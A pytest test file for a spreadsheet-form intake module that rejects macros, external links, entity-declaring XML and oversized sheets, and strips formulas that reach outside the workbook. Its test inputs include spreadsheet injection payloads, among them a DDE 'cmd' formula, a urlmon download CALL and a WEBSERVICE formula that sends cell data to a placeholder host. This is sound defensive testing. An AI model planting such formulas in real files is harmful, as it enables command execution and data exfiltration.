"""Forms that came to harm or to nothing: a clear answer, bounded work, and no formula or link is passed on."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
import xlsxwriter

from lianfang.doors.files.sheets import layout
from lianfang.doors.files.sheets.filling import blank_form
from lianfang.doors.files.sheets.suggesting import suggest
from lianfang.doors.files.sheets.template import Merge, open_template
from lianfang.doors.files.sheets.writing import Filling, write
from lianfang.kernel.errors import Refusal

from .forms import health_form, opened, police_form, ruled, saved, sheet_of


def changed(body: bytes, change: Callable[[str, bytes], bytes | None], **more: bytes) -> bytes:
    """Return an archive with its parts changed; None leaves a part out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            if (part := change(name, before.read(name))) is not None:
                after.writestr(name, part)
        for name, part in more.items():
            after.writestr(name.replace("__", "/").replace("_dot_", "."), part)
    return out.getvalue()


def same(_: str, part: bytes) -> bytes:
    return part


def refused(body: bytes) -> str:
    with pytest.raises(Refusal) as no:
        open_template(body)
    return no.value.code


def with_formula(text: str) -> bytes:
    book = openpyxl.Workbook()
    sheet = sheet_of(book, "表")
    sheet.append(["姓名", "电话"])
    sheet["C2"] = text
    return saved(book)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org","看")',
        '=WEBSERVICE("http://example.org/"&A2)',
        "=[1]Sheet1!A1",
        "='C:\\temp\\[x.xlsx]表'!A1",
        "=cmd|'/c calc'!A0",
        '=INDIRECT("[x.xlsx]表!A1")',
        '=CALL("urlmon","URLDownloadToFileA","JJ")',
        '=RTD("a","","b")',
        "=别的表!A1",
        '=DDE("a","b","c")',
        "=IMPORTXML(A1,A2)",
    ],
)
def test_a_formula_that_reaches_outside_is_left_out_and_its_cell_named(text: str) -> None:
    form = open_template(with_formula(text))
    assert form.refused == ("表!C2",)
    assert opened(write(form, {}))["表"]["C2"].value is None


@pytest.mark.parametrize("text", ["=SUM(A2:B2)", '=IF(A2="","",VLOOKUP(A2,表!A:B,2,0))', '=COUNTIF(A2:A9,">0")'])
def test_a_formula_that_stays_within_the_workbook_stays(text: str) -> None:
    assert opened(write(open_template(with_formula(text)), {}))["表"]["C2"].value == text


def test_links_macros_and_outside_parts_are_not_passed_on() -> None:
    book = openpyxl.load_workbook(io.BytesIO(police_form()))
    sheet_of(book)["A1"].hyperlink = "http://example.org"
    body = changed(saved(book), same, xl__externalLinks__externalLink1_dot_xml=b"<x/>", xl__connections_dot_xml=b"<x/>")
    form = open_template(body)
    assert [one.en for one in form.removed] == ["links to other files", "connections to data"]
    with zipfile.ZipFile(io.BytesIO(write(form, {}))) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
        assert not any("external" in name.lower() or "connection" in name for name in archive.namelist())
    assert b"example.org" not in everything
    assert b"TargetMode" not in everything


def test_macros_are_refused() -> None:
    assert refused(changed(police_form(), same, xl__vbaProject_dot_bin=b"x")) == "intake.macros"


def test_a_document_type_is_refused_before_it_is_read() -> None:
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'
    assert (
        refused(changed(police_form(), lambda name, part: bomb if name == "xl/styles.xml" else part))
        == "intake.damaged"
    )


@pytest.mark.parametrize("body", [b"", b"\x00" * 100])
def test_nothing_is_refused_as_nothing(body: bytes) -> None:
    assert refused(body) == "intake.empty"


def test_what_is_no_xlsx_is_refused_with_what_to_do() -> None:
    assert refused("姓名,电话\n".encode()) == "sheets.not_xlsx"
    assert refused(b"%PDF-1.7") == "intake.unsupported"


def test_a_file_cut_off_is_damaged() -> None:
    assert refused(police_form()[:-200]) == "intake.damaged"


def test_broken_xml_is_damaged() -> None:
    assert (
        refused(changed(police_form(), lambda n, part: part[:-30] if n.endswith("sheet1.xml") else part))
        == "intake.damaged"
    )


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/drawings/drawing1.xml"])
def test_elements_without_end_within_one_another_are_damaged(part: str) -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet()
    sheet.write("A1", "x")
    sheet.insert_textbox("B2", "说明")
    book.close()
    deep = b"<printOptions>" * 2_000 + b"</printOptions>" * 2_000
    if part.startswith("xl/drawings"):
        deep = deep.replace(b"printOptions", b"xdr:sp")
    ends = (b"</sheetData>", b"</xdr:twoCellAnchor>")

    def change(name: str, held: bytes) -> bytes:
        for end in ends if name == part else ():
            held = held.replace(end, end + deep if end == ends[0] else deep + end)
        return held

    assert refused(changed(out.getvalue(), change)) == "intake.damaged"


def test_sixteen_thousand_columns_are_too_wide() -> None:
    book = openpyxl.Workbook()
    sheet_of(book).cell(1, 16_384, "末列")
    assert refused(saved(book)) == "intake.too_wide"


def with_cells(cells: bytes) -> bytes:
    """Return a form whose first row of cells is written as given."""
    row = b'<row r="1">' + cells + b"</row>"
    return changed(saved(openpyxl.Workbook()), lambda _, part: part.replace(b"</sheetData>", row + b"</sheetData>"))


@pytest.mark.parametrize("place", [b'"ZZZZ1"', b'"AAAAAAA1"', b"'IW1'", b'"iw1"', b'"XFE1"', b'"&#73;W1"'])
def test_a_cell_beyond_the_most_columns_is_too_wide_in_whatever_way_it_is_written(place: bytes) -> None:
    assert refused(with_cells(b"<c r=" + place + b"><v>1</v></c>")) == "intake.too_wide"


def test_an_empty_cell_beyond_the_last_column_there_is_is_too_wide() -> None:
    assert refused(with_cells(b'<c r="ZZZZ1" s="0"/>')) == "intake.too_wide"


def test_empty_cells_far_to_the_right_are_kept_and_not_gone_through() -> None:
    form = open_template(with_cells(b'<c r="A1" t="str"><v>x</v></c><c r="XFD1" s="0"/>'))
    assert form.pages[0].width == 256
    assert form.pages[0].cell(1, 16_384) is not None


def test_a_cell_without_a_place_stands_behind_the_one_before() -> None:
    form = open_template(with_cells(b'<c r="b1"><v>1</v></c><c><v>2</v></c>'))
    assert (form.pages[0].text(1, 2), form.pages[0].text(1, 3)) == ("1", "2")


def with_merges(count: int, right: str = "XFD") -> bytes:
    book = openpyxl.Workbook()
    sheet = sheet_of(book, "表")
    sheet.append(["姓名", "电话"])
    sheet.append(["", ""])
    sheet.merge_cells("A9:B9")
    merges = b"".join(b'<mergeCell ref="A%d:%s%d"/>' % (row, right.encode(), row + 900) for row in range(9, 9 + count))
    return changed(saved(book), lambda _, part: re.sub(rb"<mergeCell [^>]*/>", merges, part))


def test_merges_are_looked_up_by_their_ends_and_not_cell_by_cell() -> None:
    page = open_template(with_merges(5_000)).pages[0]
    assert page.merge_at(9, 9_999) == page.merge_at(900, 1) == page.merges[0]
    assert page.merge_at(8, 1) == Merge(8, 1, 8, 1)
    assert sum(len(band) for band in page._bands[1]) == len(page.merges) == 6


def test_of_merges_that_lie_over_one_another_the_first_is_kept() -> None:
    found = [(one.top, one.bottom) for one in open_template(with_merges(5_000)).pages[0].merges]
    assert found == [(9 + 901 * place, 909 + 901 * place) for place in range(6)]


def test_merges_side_by_side_are_all_kept() -> None:
    book = openpyxl.Workbook()
    sheet = sheet_of(book, "表")
    for area in ("C1:D9", "A1:B2", "A3:B3", "E2:E4", "A4:B9", "E5:F5"):
        sheet.merge_cells(area)
    ruled(sheet, "A1:F9")
    page = open_template(saved(book)).pages[0]
    assert len(page.merges) == 6
    for row, column, top in ((2, 2, 1), (3, 1, 3), (9, 4, 1), (4, 5, 2), (5, 6, 5)):
        assert page.merge_at(row, column).top == top


def test_more_merges_than_a_form_needs_are_refused_over_all_sheets() -> None:
    assert refused(with_merges(5_001)) == "sheets.too_many_merges"
    book = openpyxl.Workbook()
    for sheet in (sheet_of(book), book.create_sheet("二")):
        for row in range(1, 2_600):
            sheet.merge_cells(start_row=row, end_row=row, start_column=1, end_column=2)
    assert refused(saved(book)) == "sheets.too_many_merges"


def test_a_total_far_below_a_list_without_rows_is_looked_for_once(monkeypatch: pytest.MonkeyPatch) -> None:
    book = openpyxl.Workbook()
    sheet = sheet_of(book, "表")
    sheet.append(["姓名", "电话"])
    sheet["A1900"] = "合计"
    looked: list[int] = []
    is_total = layout._is_total
    monkeypatch.setattr(
        layout, "_is_total", lambda page, row, columns: looked.append(row) or is_total(page, row, columns)
    )
    found = layout.find_page(open_template(saved(book)).pages[0], lambda word: float(word in ("姓名", "电话")))
    assert found.list is not None
    assert (found.list.first, found.list.last, found.list.total) == (2, 1899, 1900)
    assert len(looked) < 2 * 1900 + 10


def test_a_list_left_in_a_form_is_too_many_cells() -> None:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("表")
    for _ in range(2_000):
        sheet.append(["甲"] * 40)
    assert refused(saved(book)) == "sheets.too_many_cells"


def test_blank_rows_without_end_are_let_go() -> None:
    book = openpyxl.load_workbook(io.BytesIO(police_form()))
    sheet = sheet_of(book)
    for row in range(3, 6_000):
        sheet.row_dimensions[row].height = 20
    form = open_template(saved(book))
    assert form.pages[0].last_row < 100


def test_a_sheet_that_is_one_merge_is_read() -> None:
    book = openpyxl.Workbook()
    sheet = sheet_of(book, "表")
    sheet["A1"] = "姓名"
    sheet.merge_cells("A1:B2")
    form = open_template(changed(saved(book), lambda _, part: part.replace(b'"A1:B2"', b'"A1:XFD1048576"')))
    assert form.pages[0].merges[0].bottom == 1_048_576
    assert suggest(form, "140826", {})[0].list is None


@pytest.mark.django_db
def test_what_a_list_held_is_not_kept_in_the_form(county: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(police_form()))
    sheet = sheet_of(book)
    sheet["B2"], sheet["A2"] = "张三丰", "140826198805170019"
    form = open_template(saved(book))
    kept = opened(blank_form(form, suggest(form, "140826", {})))["名单"]
    assert [cell.value for cell in kept[2]] == [None] * 8
    assert kept["B2"].border.left.style == "thin"


def test_invisible_and_illegal_characters_do_not_break_the_file() -> None:
    form = open_template(health_form())
    filling = Filling({(2, 1): "一\x00二\ud800三&<"}, 5, 6, frozenset({2}), [{2: "\x0b甲"}])
    sheet: Any = opened(write(form, {"居家观察": filling}))["居家观察"]
    assert (sheet["A2"].value, sheet["B5"].value) == ("一二三&<", "甲")
